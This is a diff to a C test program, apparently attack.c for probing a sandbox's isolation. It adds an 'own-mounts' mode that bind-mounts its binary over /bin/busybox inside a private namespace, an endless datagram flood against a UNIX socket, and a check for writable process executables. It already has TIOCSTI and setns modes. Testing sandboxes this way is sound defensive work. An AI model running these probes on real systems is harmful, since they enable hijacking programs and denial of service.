@@ -10,6 +10,9 @@
  *   attack tiocsti                pushes a character into the terminal of fd 0
  *   attack setns                  joins its own mount namespace, which leads to that one's real root
  *   attack capabilities           the inheritable and ambient sets
+ *   attack own-mounts             enters a mount namespace of a user namespace of its own, where all programs are its own
+ *   attack flood SOCKET           sends datagrams without end, from several processes
+ *   attack can-mount-procfs-of    no attack: can a procfs be had of a pid namespace without being in it (Linux 6.17)?
  */
 #define _GNU_SOURCE
 #include <ctype.h>
@@ -25,10 +28,13 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -134,6 +140,14 @@ static int exec_stage(double seconds)
 /* ---- proc-exe --------------------------------------------------------------------------------------------
  */
 
+/* A sealed memfd can be opened for writing, and not be written. The byte stays what it is. */
+static bool can_write(int readable, int writable)
+{
+    char byte;
+
+    return pread(readable, &byte, 1, 0) == 1 && pwrite(writable, &byte, 1, 0) == 1;
+}
+
 static void overwrite(int pid)
 {
     char path[100];
@@ -150,7 +164,7 @@ static void overwrite(int pid)
 
         if (writable >= 0) {
             if (readlink(path, target, sizeof target - 1) > 0 && !strstr(target, "/bin/attack") &&
-                !strstr(target, "/bin/busybox")) {
+                !strstr(target, "/bin/busybox") && can_write(fd, writable)) {
                 printf("writable: %s\n", target);
                 fflush(stdout);
             }
@@ -275,6 +289,42 @@ static int capability_sets(void)
     return 0;
 }
 
+/* Whoever is made to run something in this namespace runs us. */
+static int own_mounts(char **argv)
+{
+    if (strcmp(argv[0], "/bin/attack") != 0) {
+        printf("hostile program as uid %d\n", (int)geteuid());
+        return 0;
+    }
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || mount("/bin/attack", "/bin/busybox", NULL, MS_BIND, NULL) < 0)
+        perror("own-mounts");
+    puts("entered");
+    fflush(stdout);
+    for (;;)
+        pause();
+}
+
+static void flood(const char *path) __attribute__((noreturn));
+static void flood(const char *path)
+{
+    struct sockaddr_un address = { .sun_family = AF_UNIX };
+    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
+
+    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
+    for (int i = 0; i < 4 && fork() > 0; i++)
+        continue;
+    for (;;)
+        sendto(fd, "STATUS=x", 8, 0, (struct sockaddr *)&address, sizeof address);
+}
+
+static int can_mount_procfs_of(void)
+{
+    int context = (int)syscall(SYS_fsopen, "proc", 0);
+    int namespace = open("/proc/self/ns/pid", O_RDONLY | O_CLOEXEC);
+
+    return syscall(SYS_fsconfig, context, 5 /* FSCONFIG_SET_FD */, "pidns", NULL, namespace) < 0;
+}
+
 int main(int argc, char **argv)
 {
     const char *what = argc > 1 ? argv[1] : "";
@@ -293,6 +343,12 @@ int main(int argc, char **argv)
         return join_own_namespace();
     if (strcmp(what, "tiocsti") == 0)
         return push_character();
+    if (strcmp(what, "own-mounts") == 0 || strcmp(argv[0], "/bin/id") == 0)
+        return own_mounts(argv);
+    if (strcmp(what, "flood") == 0 && argc == 3)
+        flood(argv[2]);
+    if (strcmp(what, "can-mount-procfs-of") == 0)
+        return can_mount_procfs_of();
     if (strcmp(what, "capabilities") == 0)
         return capability_sets();
     fputs("attack: see the head of attack.c\n", stderr);
